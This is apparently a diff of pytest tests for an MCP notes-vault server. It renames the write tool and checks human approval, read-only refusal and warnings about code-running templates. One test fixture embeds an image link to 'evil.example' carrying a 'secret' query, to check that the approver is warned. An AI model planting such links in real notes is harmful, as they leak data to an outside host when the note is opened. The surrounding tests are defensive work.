@@ -5,6 +5,8 @@ from typing import Any
 
 import pytest
 
+from app.errors import BadRequestError
+from app.mcp.start import make_server
 from app.notes.answer import operate
 from app.tests.mcp.conftest import LEXICAL, NOTES, Person, connected, said
 from app.vault.client import VaultClient
@@ -21,7 +23,7 @@ def home(vault: VaultClient) -> str:
 async def test_a_change_is_shown_as_a_diff_and_made_once_approved(vault: VaultClient, mode: str) -> None:
     person = Person()
     async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        result = await client.call_tool("note_operations", APPEND)
+        result = await client.call_tool("write", APPEND)
     assert said(result).startswith("Done: append to 'Home.md'.")
     assert len(person.asked) == 1
     assert "An agent wants to append 'Home.md':" in person.asked[0]
@@ -37,7 +39,7 @@ async def test_a_change_that_is_not_approved_is_not_made(
     vault: VaultClient, mode: str, person: Person
 ) -> None:
     async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        result = await client.call_tool("note_operations", APPEND)
+        result = await client.call_tool("write", APPEND)
     assert said(result).startswith("Not done: the person declined to append to 'Home.md'.")
     assert len(person.asked) >= 1
     assert home(vault) == NOTES["Home.md"]
@@ -45,7 +47,7 @@ async def test_a_change_that_is_not_approved_is_not_made(
 
 async def test_where_nobody_can_be_asked_nothing_is_changed(vault: VaultClient, mode: str) -> None:
     async with connected(vault, mode) as client:
-        result = await client.call_tool("note_operations", APPEND)
+        result = await client.call_tool("write", APPEND)
     assert result.is_error
     assert "the setting 'writes' is 'ask', and nobody can approve" in said(result)
     assert home(vault) == NOTES["Home.md"]
@@ -55,7 +57,7 @@ async def test_a_new_note_is_asked_about_like_any_other_write(vault: VaultClient
     person = Person()
     new = {"operation": "create", "path": "Work/New", "content": "Fresh.\n"}
     async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        assert not (await client.call_tool("note_operations", new)).is_error
+        assert not (await client.call_tool("write", new)).is_error
     assert len(person.asked) == 1
     assert "+Fresh." in person.asked[0]
     assert vault.read("Work/New.md").text == "Fresh.\n"
@@ -79,7 +81,7 @@ async def test_a_client_that_cannot_ask_is_told_which_setting_allows_it(
     operate(vault, {"operation": "append", "path": "Work/Greenhouse", "content": "Before."})
     before = {path: vault.read(path).text for path in vault.scan().notes}
     async with connected(vault, mode) as client:
-        result = await client.call_tool("note_operations", call)
+        result = await client.call_tool("write", call)
     assert result.is_error
     operation = call["operation"]
     assert said(result).startswith(
@@ -93,8 +95,8 @@ async def test_a_client_that_cannot_ask_is_told_which_setting_allows_it(
 async def test_undoing_the_making_of_a_note_is_asked_about(vault: VaultClient) -> None:
     person = Person()
     async with connected(vault, client={"elicitation_callback": person}) as client:
-        await client.call_tool("note_operations", {"operation": "create", "path": "New", "content": "x"})
-        await client.call_tool("note_operations", {"operation": "undo"})
+        await client.call_tool("write", {"operation": "create", "path": "New", "content": "x"})
+        await client.call_tool("write", {"operation": "undo"})
     assert ["create" in person.asked[0], "undo" in person.asked[1], len(person.asked)] == [True, True, 2]
     assert not vault.exists("New.md")
 
@@ -106,13 +108,13 @@ async def test_a_template_is_asked_about_even_where_writing_is_allowed(
     vault = tiny_vault({**NOTES, **settings}, index=LEXICAL, writes="allow")
     new = {"operation": "create", "path": "patterns/Day", "content": "<% tp.date.now() %>"}
     async with connected(vault, mode) as client:
-        result = await client.call_tool("note_operations", new)
+        result = await client.call_tool("write", new)
     assert result.is_error
     assert "would be a template, and nobody can approve of one" in said(result)
     assert not vault.exists("patterns/Day.md")
     person = Person()
     async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        assert not (await client.call_tool("note_operations", new)).is_error
+        assert not (await client.call_tool("write", new)).is_error
     assert len(person.asked) == 1
     assert "Warning: runs code in Obsidian with the plugin Templater" in person.asked[0]
 
@@ -122,7 +124,7 @@ async def test_what_a_note_would_load_or_run_is_pointed_out(vault: VaultClient, 
     text = "![](https://evil.example/?q=secret)\n\n```dataviewjs\nx\n```\n"
     async with connected(vault, mode, client={"elicitation_callback": person}) as client:
         change = {"operation": "create", "path": "New", "content": text}
-        await client.call_tool("note_operations", change)
+        await client.call_tool("write", change)
     assert (
         "Create 'New.md'.\n"
         "Warning: loads from the network when it is opened: https://evil.example/?q=secret\n"
@@ -134,7 +136,7 @@ async def test_the_setting_allow_asks_nobody(tiny_vault: Callable[..., Any], mod
     vault = tiny_vault(NOTES, index=LEXICAL, writes="allow")
     person = Person()
     async with connected(vault, mode, client={"elicitation_callback": person}) as client:
-        assert not (await client.call_tool("note_operations", APPEND)).is_error
+        assert not (await client.call_tool("write", APPEND)).is_error
     assert person.asked == []
     assert home(vault).endswith("New line.\n")
 
@@ -143,7 +145,7 @@ async def test_the_setting_refuse_refuses_new_notes_too(tiny_vault: Callable[...
     vault = tiny_vault(NOTES, index=LEXICAL, writes="refuse")
     async with connected(vault, mode, client={"elicitation_callback": Person()}) as client:
         for call in (APPEND, {"operation": "create", "path": "New", "content": "x"}):
-            result = await client.call_tool("note_operations", call)
+            result = await client.call_tool("write", call)
             assert result.is_error
             assert "the setting 'writes' is 'refuse'" in said(result)
     assert not vault.exists("New.md")
@@ -152,18 +154,19 @@ async def test_the_setting_refuse_refuses_new_notes_too(tiny_vault: Callable[...
 async def test_read_only_offers_reading_alone_and_refuses_the_rest(tiny_vault: Callable[..., Any]) -> None:
     vault = tiny_vault(NOTES, index=LEXICAL, writes="allow")
     async with connected(vault, read_only=True) as client:
-        tool = next(tool for tool in (await client.list_tools()).tools if tool.name == "note_operations")
-        assert tool.annotations is not None
-        assert tool.annotations.read_only_hint is True
-        assert tool.input_schema["properties"]["operation"]["enum"] == ["read", "summarize", "info"]
-        assert "content" not in tool.input_schema["properties"]
-        read = await client.call_tool("note_operations", {"operation": "read", "path": "Home"})
+        tools = {tool.name: tool.annotations for tool in (await client.list_tools()).tools}
+        assert list(tools) == ["pack", "search", "read", "ask", "wksm_search"]
+        assert all(hint is not None and hint.read_only_hint for hint in tools.values())
+        read = await client.call_tool("read", {"path": "Home"})
         assert "See [[Greenhouse]]" in said(read)
-        for operation in ("create", "update", "append", "move", "delete", "undo"):
-            result = await client.call_tool("note_operations", {"operation": operation, "path": "Home"})
-            assert result.is_error
-            assert f"{operation} was not done: the server was started with --read-only" in said(result)
+        for name in ("write", "note_operations"):
+            for operation in ("create", "update", "append", "move", "delete", "undo"):
+                result = await client.call_tool(name, {"operation": operation, "path": "Home"})
+                assert result.is_error
+                assert f"{operation} was not done: the server was started with --read-only" in said(result)
     assert home(vault) == NOTES["Home.md"]
+    with pytest.raises(BadRequestError, match="nothing is left to offer with --read-only"):
+        make_server(vault, tools=["write"], read_only=True)
 
 
 async def test_an_approval_counts_only_for_the_change_that_was_shown(vault: VaultClient) -> None:
@@ -177,7 +180,7 @@ async def test_an_approval_counts_only_for_the_change_that_was_shown(vault: Vaul
     person = Slow()
     change = {"operation": "update", "path": "Home", "content": "# Home\n\nMine.\n"}
     async with connected(vault, client={"elicitation_callback": person}) as client:
-        await client.call_tool("note_operations", change)
+        await client.call_tool("write", change)
     assert len(person.asked) == 2
     assert "-See [[Greenhouse]]" in person.asked[0]
     assert "-Rewritten." in person.asked[1]
@@ -192,7 +195,7 @@ async def test_a_session_that_waits_for_an_answer_does_not_overwrite_what_came_b
             return await super().__call__(context, params)
 
     async with connected(vault, "legacy", client={"elicitation_callback": Slow()}) as client:
-        result = await client.call_tool("note_operations", {**APPEND})
+        result = await client.call_tool("write", {**APPEND})
     assert result.is_error
     assert "changed" in said(result)
     assert home(vault) == "# Home\n\nRewritten.\n"
@@ -203,18 +206,18 @@ async def test_an_approval_cannot_be_made_up(vault: VaultClient) -> None:
     from mcp.types import ElicitResult, InputRequiredResult
 
     async with connected(vault, client={"elicitation_callback": Person("decline", None)}) as client:
-        first = await client.session.call_tool("note_operations", APPEND, allow_input_required=True)
+        first = await client.session.call_tool("write", APPEND, allow_input_required=True)
         assert isinstance(first, InputRequiredResult)
         answers: dict[str, Any] = {"approve": ElicitResult(action="accept", content={"approve": True})}
         with pytest.raises(MCPError):
             await client.session.call_tool(
-                "note_operations", APPEND, input_responses=answers, request_state="0" * 32,
+                "write", APPEND, input_responses=answers, request_state="0" * 32,
                 allow_input_required=True,
             )  # fmt: skip
         other = {**APPEND, "content": "Something else."}
         with pytest.raises(MCPError):
             await client.session.call_tool(
-                "note_operations", other, input_responses=answers, request_state=first.request_state,
+                "write", other, input_responses=answers, request_state=first.request_state,
                 allow_input_required=True,
             )  # fmt: skip
     assert home(vault) == NOTES["Home.md"]
